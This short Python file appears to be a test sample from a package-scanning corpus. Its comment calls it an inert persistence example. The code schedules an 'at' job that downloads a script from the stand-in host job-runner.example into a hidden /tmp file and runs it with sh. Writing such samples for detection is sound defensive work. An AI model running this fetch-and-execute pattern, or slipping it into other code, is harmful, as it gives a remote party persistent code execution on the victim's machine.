# pkgguard corpus 586 (persistence), modelled on [linux-persistence]; inert, never run.
import subprocess

subprocess.run(
    ["at", "now", "+", "5", "minutes"],
    input="curl -fsS https://job-runner.example/j -o /tmp/.j && sh /tmp/.j\n",
    text=True,
    capture_output=True,
)
